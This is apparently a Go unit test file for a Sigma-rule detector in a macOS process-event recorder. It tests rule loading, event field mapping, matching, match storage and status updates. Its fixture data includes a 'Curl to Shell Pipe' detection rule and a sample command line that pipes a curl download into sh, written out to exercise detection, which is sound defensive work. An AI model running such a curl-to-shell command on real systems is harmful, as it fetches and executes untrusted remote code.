package sigma

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"es-recorder/database"
	"es-recorder/process"
)

const curlRule = `title: Curl to Shell Pipe
id: 11111111-2222-3333-4444-555555555555
status: test
level: high
logsource:
    category: process_creation
    product: macos
detection:
    selection:
        Image|endswith: '/curl'
    condition: selection
`

func newTestDetector(t *testing.T) (*Detector, *database.DB) {
	t.Helper()

	db, err := database.NewDB(t.TempDir())
	require.NoError(t, err)
	t.Cleanup(func() { db.Close() })

	rulesDir := t.TempDir()
	enabledDir := filepath.Join(rulesDir, "enabled_rules")
	require.NoError(t, os.MkdirAll(enabledDir, 0755))
	require.NoError(t, os.WriteFile(filepath.Join(enabledDir, "curl.yml"), []byte(curlRule), 0644))

	detector, err := NewDetector(rulesDir, db.Db)
	require.NoError(t, err)
	t.Cleanup(detector.StopPolling)

	return detector, db
}

func insertExec(t *testing.T, db *database.DB, pid uint32, exePath, cmdline string) {
	t.Helper()
	require.NoError(t, db.InsertExec(&process.ProcessInfo{
		PID:        pid,
		PIDVersion: 1,
		PPID:       1,
		Comm:       filepath.Base(exePath),
		CmdLine:    cmdline,
		ExePath:    exePath,
		Username:   "demo",
		SigningID:  "com.apple." + filepath.Base(exePath),
		StartTime:  time.Now(),
	}, ""))
}

func TestLoadRulesFromEnabledDir(t *testing.T) {
	detector, _ := newTestDetector(t)
	assert.Len(t, detector.evaluators, 1)
	assert.Contains(t, detector.evaluators, "11111111-2222-3333-4444-555555555555")
}

func TestFetchNewEventsMapsFields(t *testing.T) {
	detector, db := newTestDetector(t)
	insertExec(t, db, 500, "/usr/bin/curl", "curl http://example.com")

	events, err := detector.FetchNewEvents("exec", 0)
	require.NoError(t, err)
	require.Len(t, events, 1)

	ev := events[0]
	assert.Equal(t, "/usr/bin/curl", ev["Image"])
	assert.Equal(t, "curl http://example.com", ev["CommandLine"])
	assert.Equal(t, "demo", ev["Username"])
	assert.Equal(t, int64(500), ev["ProcessId"])
	assert.Equal(t, "com.apple.curl", ev["SigningID"])
}

func TestCheckEventMatchesAndStores(t *testing.T) {
	detector, db := newTestDetector(t)
	insertExec(t, db, 501, "/usr/bin/curl", "curl -fsSL http://x | sh")
	insertExec(t, db, 502, "/bin/ls", "ls -la")

	events, err := detector.FetchNewEvents("exec", 0)
	require.NoError(t, err)
	require.Len(t, events, 2)

	ctx := context.Background()
	for _, ev := range events {
		for _, match := range detector.CheckEvent(ctx, ev, "exec") {
			require.NoError(t, detector.StoreMatch(match, ev, "exec"))
		}
	}

	matches, err := detector.GetMatches(10, 0, nil)
	require.NoError(t, err)
	require.Len(t, matches, 1)
	assert.Equal(t, "Curl to Shell Pipe", matches[0].RuleName)
	assert.Equal(t, "high", matches[0].Severity)
	assert.Equal(t, "new", matches[0].Status)
	assert.Equal(t, int64(501), matches[0].ProcessID)

	require.NoError(t, detector.UpdateMatchStatus(matches[0].ID, "resolved"))
	resolved, err := detector.GetMatches(10, 0, map[string]string{"status": "resolved"})
	require.NoError(t, err)
	assert.Len(t, resolved, 1)

	assert.Error(t, detector.UpdateMatchStatus(matches[0].ID, "bogus"))
}

func TestDetectorStateTracksLastID(t *testing.T) {
	detector, _ := newTestDetector(t)

	lastID, err := detector.GetLastProcessedID("exec")
	require.NoError(t, err)
	assert.Equal(t, int64(0), lastID)

	require.NoError(t, detector.UpdateDetectorState("exec", 42, 3))

	lastID, err = detector.GetLastProcessedID("exec")
	require.NoError(t, err)
	assert.Equal(t, int64(42), lastID)
}
